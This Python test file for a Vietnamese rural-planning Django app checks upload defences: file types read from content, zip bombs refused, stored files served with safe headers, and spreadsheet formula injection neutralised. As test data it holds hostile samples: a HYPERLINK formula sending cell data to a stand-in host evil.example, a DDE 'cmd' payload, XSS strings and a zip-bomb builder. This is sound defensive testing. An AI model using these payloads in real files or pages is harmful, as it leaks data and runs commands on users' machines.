"""Uploads and downloads (issue 11, part 2): kinds read from the content, zip bombs refused
before openpyxl or python-docx opens them, stored files outside the web root and served with
safe headers, and text typed by users never turned into a formula in the Excel files we write."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import Workbook, load_workbook

from nongthon.accounts.models import Role
from nongthon.places.models import Hamlet
from nongthon.plans import services as plan_services
from nongthon.plans import task_import
from nongthon.plans.models import ProgressNote
from nongthon.web import spreadsheets, uploads
from tests.conftest import client_for, make_user
from tests.plans_support import make_plan

SRC = Path(__file__).resolve().parents[1] / "src" / "nongthon"
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\n"
PNG = b"\x89PNG\r\n\x1a\n" + b"\x00" * 32
JPEG = b"\xff\xd8\xff\xe0" + b"\x00" * 32
INJECTION = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'


def xlsx_bytes(rows: list[list[object]]) -> bytes:
    workbook = Workbook()
    for row in rows:
        workbook.active.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def bomb(prefix: str = "xl", size: int = 20 * 1024 * 1024, members: int = 1) -> bytes:
    """An Office-looking zip whose member inflates `size` bytes of zeros (ratio ~1000)."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr(f"{prefix}/big.xml", b"\0" * size)
        for i in range(members - 1):
            archive.writestr(f"{prefix}/m{i}.xml", b"")
    return out.getvalue()


def upload_of(name: str, data: bytes) -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data)


# --- Kinds by content -------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "data", "kinds"),
    [
        ("anh.png", b"<svg onload=alert(1)>", uploads.IMAGE_KINDS),
        ("anh.jpg", b"<html><script>alert(1)</script>", uploads.IMAGE_KINDS),
        ("bien-ban.pdf", JPEG, uploads.DOCUMENT_KINDS),
        ("anh.svg", b"<svg/>", uploads.IMAGE_KINDS),
        ("bang.xlsx", PDF, (uploads.XLSX,)),
        ("bang.xlsx", b"PK\x03\x04 not really a zip", (uploads.XLSX,)),
    ],
)
def test_a_file_is_judged_by_its_content_not_its_name(name, data, kinds):
    with pytest.raises(ValidationError) as caught:
        uploads.check_upload(upload_of(name, data), kinds=kinds, max_bytes=10**6)
    assert f"«{name}»" in caught.value.messages[0]


def test_the_kind_comes_from_the_bytes():
    assert uploads.content_kind(PDF) == uploads.PDF
    assert uploads.content_kind(PNG) == uploads.PNG
    assert uploads.content_kind(xlsx_bytes([["a"]])) == uploads.XLSX
    assert uploads.content_kind(b"GIF89a") is None


def test_an_office_import_is_read_by_content_whatever_its_name():
    kind, _data = uploads.check_office(
        upload_of("bang.docx", xlsx_bytes([["a"]])), kinds=(uploads.XLSX, uploads.DOCX)
    )
    assert kind == uploads.XLSX


# --- Zip bombs --------------------------------------------------------------------------------


def test_a_zip_bomb_is_refused_by_its_ratio_before_anything_inflates_it():
    with pytest.raises(ValidationError) as caught:
        uploads.check_office(upload_of("bom.xlsx", bomb()))
    assert caught.value.code == "archive"
    assert "«bom.xlsx» bị từ chối" in caught.value.messages[0]


def test_an_archive_with_too_many_members_is_refused(settings):
    settings.NONGTHON_MAX_ARCHIVE_MEMBERS = 50
    with pytest.raises(ValidationError) as caught:
        uploads.check_office(upload_of("nhieu.xlsx", bomb(size=10, members=60)))
    assert "quá nhiều" in caught.value.messages[0]


def test_an_archive_that_inflates_beyond_the_limit_is_refused(settings):
    settings.NONGTHON_MAX_UNCOMPRESSED_BYTES = 1024 * 1024
    plain = xlsx_bytes([["x" * 100] for _ in range(20000)])
    with pytest.raises(ValidationError) as caught:
        uploads.check_office(upload_of("lon.xlsx", plain))
    assert "khi giải nén" in caught.value.messages[0]


def test_an_ordinary_spreadsheet_passes_the_archive_checks():
    assert uploads.archive_problem(xlsx_bytes([[f"Ấp {i}", i] for i in range(3000)])) is None


def test_a_member_that_inflates_past_its_declared_size_stops_at_it():
    """zipfile enforces the declared size (CRC error), so bounding declared sizes is enough."""
    data = bytearray(bomb(size=2 * 1024 * 1024))
    for header in (b"PK\x03\x04", b"PK\x01\x02"):
        start = 0
        while (at := data.find(header, start)) != -1:
            name_at = at + (30 if header == b"PK\x03\x04" else 46)
            if data[name_at : name_at + 10] == b"xl/big.xml":
                size_at = at + (22 if header == b"PK\x03\x04" else 24)
                data[size_at : size_at + 4] = (1000).to_bytes(4, "little")
            start = at + 4
    assert uploads.archive_problem(bytes(data)) is None
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive, pytest.raises(zipfile.BadZipFile):
        archive.read("xl/big.xml")


def test_the_hamlet_import_refuses_a_bomb_and_saves_nothing(district_officer, vi_thuy):
    client = client_for(district_officer)
    upload = io.BytesIO(bomb())
    upload.name = "thon-ap.xlsx"
    page = client.post(f"/units/hamlets/import/{vi_thuy.pk}/", {"file": upload})
    assert page.status_code == 200
    assert "bị từ chối" in page.content.decode()
    assert not Hamlet.objects.exists()


def test_the_values_import_refuses_a_bomb(tiny_set, district_officer, vi_thuy):
    from nongthon.assessment.models import IndicatorValue

    upload = io.BytesIO(bomb())
    upload.name = "so-lieu.xlsx"
    url = f"/assessment/excel/{vi_thuy.pk}/2023/{tiny_set.family}/"
    page = client_for(district_officer).post(url, {"file": upload})
    assert "bị từ chối" in page.content.decode()
    assert not IndicatorValue.objects.exists()


def test_the_task_appendix_import_refuses_a_word_bomb(hau_giang):
    preview = task_import.read_appendix("phu-luc.docx", bomb(prefix="word"), hau_giang, 2023)
    assert "bị từ chối" in preview.file_error
    assert not preview.rows


def test_evidence_that_is_a_bomb_is_not_stored(vi_binh, commune_officer, tiny_set):
    from nongthon.assessment import evidence

    with pytest.raises(ValidationError, match="bị từ chối"):
        evidence.attach_evidence(
            commune_officer,
            upload=upload_of("bang.xlsx", bomb()),
            unit=vi_binh,
            year=2023,
            family=tiny_set.family,
            indicator_code="3.1",
        )


# --- Stored outside the web root, served with safe headers ------------------------------------


def test_the_media_folder_is_outside_every_served_folder():
    media = Path(settings.MEDIA_ROOT).resolve()
    assert not media.is_relative_to(Path(settings.STATIC_ROOT).resolve())
    for folder in getattr(settings, "STATICFILES_DIRS", []):
        assert not media.is_relative_to(Path(folder).resolve())
    assert not getattr(settings, "MEDIA_URL", "").strip("/")  # no URL prefix maps to it
    urls = (SRC / "urls.py").read_text()
    assert "MEDIA" not in urls and "static(" not in urls


@pytest.fixture
def task_world(hau_giang):
    plan = make_plan(hau_giang, 2023)
    task = plan_services.add_task(
        None,
        plan,
        content=INJECTION,
        lead_text="Các sở, ban, ngành tỉnh",
        deadline_text="31/12/2023",
    )
    return plan, task


def test_task_evidence_is_checked_by_content_and_stored_under_a_generated_name(task_world):
    _plan, task = task_world
    with pytest.raises(ValidationError, match="không phải PDF"):
        plan_services.add_progress_note(
            None, task, text="x", written_on=dt.date(2023, 9, 1),
            evidence=upload_of("bao-cao.pdf", b"<html>not a pdf</html>"),
        )  # fmt: skip
    assert not ProgressNote.objects.exists()
    note = plan_services.add_progress_note(
        None, task, text="x", written_on=dt.date(2023, 9, 1),
        evidence=upload_of("../../Báo cáo.pdf", PDF),
    )  # fmt: skip
    assert note.evidence_name == "Báo cáo.pdf"
    assert re.fullmatch(r"plans/tasks/\d+/[0-9a-f]{32}\.pdf", note.evidence.name)


def test_a_stored_document_is_an_attachment_with_nosniff_and_its_own_csp(
    task_world, province_coordinator
):
    _plan, task = task_world
    note = plan_services.add_progress_note(
        None, task, text="x", written_on=dt.date(2023, 9, 1), evidence=upload_of("bc.pdf", PDF)
    )
    response = client_for(province_coordinator).get(f"/plans/notes/{note.pk}/evidence/")
    assert response.status_code == 200
    assert response["Content-Type"] == "application/pdf"
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"] == uploads.FILE_CSP
    assert "sandbox" in response["Content-Security-Policy"]
    assert response["Cache-Control"] == "private, no-store"
    assert b"".join(response.streaming_content) == PDF


def test_a_stored_file_missing_from_the_disk_is_not_found(task_world, province_coordinator):
    _plan, task = task_world
    note = plan_services.add_progress_note(
        None, task, text="x", written_on=dt.date(2023, 9, 1), evidence=upload_of("bc.pdf", PDF)
    )
    note.evidence.storage.delete(note.evidence.name)
    response = client_for(province_coordinator).get(f"/plans/notes/{note.pk}/evidence/")
    assert response.status_code == 404


def test_a_product_photo_is_shown_inline_with_nosniff_and_a_sandbox(vi_binh):
    from nongthon.ocop import services as ocop_services
    from tests.ocop_support import producer_at, product_of

    product = product_of(producer_at(vi_binh))
    photo = ocop_services.add_photo(None, product=product, upload=upload_of("buoi.png", PNG))
    officer = make_user("xa-ocop", vi_binh, Role.COMMUNE_OFFICER)
    response = client_for(officer).get(f"/ocop/products/{product.pk}/photos/{photo.pk}/")
    assert response["Content-Type"] == "image/png"
    assert response["Content-Disposition"].startswith("inline;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "sandbox" in response["Content-Security-Policy"]


# --- Formula injection in the Excel files we write --------------------------------------------


@pytest.mark.parametrize(
    "text", [INJECTION, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]
)
def test_text_that_would_run_as_a_formula_is_written_as_plain_text(text):
    workbook = Workbook()
    workbook.active.append([text, -5, 3.5, "Ấp 1", dt.date(2023, 1, 2)])
    sheet = load_workbook(io.BytesIO(spreadsheets.workbook_bytes(workbook))).active
    cell = sheet["A1"]
    assert cell.data_type == "s" and cell.value == text and cell.quotePrefix
    assert sheet["B1"].value == -5 and sheet["B1"].data_type == "n"  # numbers stay numbers
    assert sheet["C1"].value == 3.5
    assert sheet["D1"].value == "Ấp 1" and not sheet["D1"].quotePrefix


def cell_values(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    return [c.value for sheet in workbook.worksheets for row in sheet.iter_rows() for c in row]


def formula_cells(content: bytes) -> list[str]:
    workbook = load_workbook(io.BytesIO(content))
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "f" or (spreadsheets.is_dangerous(cell.value) and not cell.quotePrefix)
    ]


def test_the_task_export_writes_a_hostile_task_as_text(task_world, province_coordinator):
    plan, _task = task_world
    response = client_for(province_coordinator).get(f"/plans/plan/{plan.pk}/export.xlsx")
    assert response.status_code == 200
    assert INJECTION in cell_values(response.content)
    assert formula_cells(response.content) == []


def test_the_works_export_writes_a_hostile_name_as_text(vi_binh, commune_officer):
    from nongthon.funding import services as funding_services

    funding_services.create_work(
        None, vi_binh, name=INJECTION, family="qd318-xa-ntm", criterion_number=2,
        investment_total="2.400 triệu đồng",
    )  # fmt: skip
    response = client_for(commune_officer).get(f"/funding/{vi_binh.pk}/works/?format=xlsx")
    assert response.status_code == 200
    assert INJECTION in cell_values(response.content)
    assert formula_cells(response.content) == []


def test_every_excel_file_the_project_writes_goes_through_the_neutralising_helper():
    writers = []
    for path in SRC.rglob("*.py"):
        text = path.read_text(encoding="utf-8")
        if path.name == "spreadsheets.py" or "Workbook()" not in text:
            continue
        writers.append(path.relative_to(SRC).as_posix())
        assert "spreadsheets.workbook_bytes(" in text, path
        assert not re.search(r"\bworkbook\.save\(", text), path
    assert len(writers) >= 4  # plans, funding, assessment, places
